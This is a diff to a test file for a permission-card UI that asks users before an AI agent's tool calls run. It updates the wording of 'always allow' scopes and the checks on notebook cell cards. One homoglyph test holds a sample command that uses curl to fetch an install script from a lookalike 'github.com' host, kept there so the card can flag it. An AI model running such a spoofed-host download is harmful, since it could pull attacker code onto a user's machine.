@@ -12,6 +12,7 @@ from __future__ import annotations
 import asyncio
 import os
 from collections.abc import Iterator
+from typing import Any
 
 import pytest
 from support import wire as fx
@@ -93,11 +94,22 @@ def test_allow_once_and_deny_keep_nothing(loop: asyncio.AbstractEventLoop) -> No
     [
         ("Write", {"file_path": "/tmp/x/../y.py", "content": "1"}, "Write of this file only ("),
         ("Edit", {"file_path": "/tmp/y.py", "old_string": "a", "new_string": "b"}, "Edit of"),
-        ("Read", {"file_path": "/etc/hosts"}, "every Read call, whatever its input (Read)"),
+        ("Read", {"file_path": "/etc/hosts"}, "every Read call, whatever its input, until"),
         ("Grep", {"pattern": "x"}, "every Grep call"),
         ("mcp__byre__inspect", {"name": "df"}, "every byre.inspect call"),
-        ("mcp__byre__python", {"code": "1"}, "only this exact byre.python call"),
+        ("mcp__byre__python", {"code": "1"}, "covers this exact code again, until"),
         ("WebFetch", {"url": "https://example.com"}, "only this exact WebFetch call"),
+        (
+            "mcp__byre__edit_notebook",
+            {"cells": []},
+            "covers every later edit of this notebook's cells without a review card (but an "
+            "edit of a cell that runs Claude, which always asks), until",
+        ),
+        (
+            "mcp__byre__run_cells",
+            {"cell": "c9", "position": 4, "code": "df = load()"},
+            "covers running cell 4 again, only while its source is exactly this, until",
+        ),
     ],
 )
 def test_every_card_says_what_always_allow_covers(
@@ -109,6 +121,39 @@ def test_every_card_says_what_always_allow_covers(
     assert "Always allow (session)" in widget_texts(card.widget)
     assert isinstance(answer := click(loop, card, "always"), Allow)
     assert answer.remember == card.choices[0]
+
+
+@pytest.mark.parametrize(
+    ("tool", "tool_input"),
+    [
+        ("mcp__byre__edit_notebook", {"cells": []}),
+        ("Read", {"file_path": "/etc/hosts"}),
+        ("mcp__byre__inspect", {"name": "df"}),
+    ],
+)
+def test_the_allowance_line_names_the_tool_once(
+    loop: asyncio.AbstractEventLoop, tool: str, tool_input: dict[str, Any]
+) -> None:
+    # The finding: "covers every byre.edit_notebook call, whatever its input
+    # (byre.edit_notebook), until ...": the rule repeated the words.
+    text = scope_text(ApprovalCard(tool, tool_input, loop=loop))
+    label = tool.replace("mcp__byre__", "byre.")
+    assert text.count(label) <= 1 and f"({label})" not in text, text
+
+
+def test_a_run_cells_card_names_the_cell_by_its_place_and_first_line(
+    loop: asyncio.AbstractEventLoop,
+) -> None:
+    # The finding: the card said "Run Python in your kernel" and its allowance byre.python.
+    source = "df = load('sales.csv')\ndf.head()"
+    card = ApprovalCard(
+        "mcp__byre__run_cells", {"cell": "c9", "position": 4, "code": source}, loop=loop
+    )
+    assert card.title == "Run cell 4: `df = load('sales.csv')…`"
+    assert "Cell source" in "\n".join(widget_texts(card.widget))
+    one = describe_request("mcp__byre__run_cells", {"cell": "c", "position": 1, "code": "x"})
+    assert one.summary == "Run cell 1: `x`"  # the record of the decision says it too
+    assert "running cell 4 again" in scope_text(card) and "byre.python" not in scope_text(card)
 
 
 def test_a_file_card_names_the_file_with_dots_and_symlinks_resolved(
@@ -134,7 +179,7 @@ def test_a_homoglyph_host_is_marked_in_the_card(loop: asyncio.AbstractEventLoop)
     assert "g<span" in body and ">⟨U+0456⟩</span>thub.com" in body
     assert "looks like the Latin letter i" in body  # the marker's title names it
     texts = "\n".join(widget_texts(card.widget))
-    assert "a letter of another script that looks like a Latin one" in texts
+    assert "a letter that passes for another one (another script's letter" in texts
     assert describe_request("Bash", {"command": HOMOGLYPH}).summary.endswith(
         "curl https://g⟨U+0456⟩thub.com/install.sh -o /tmp/i.sh"
     )
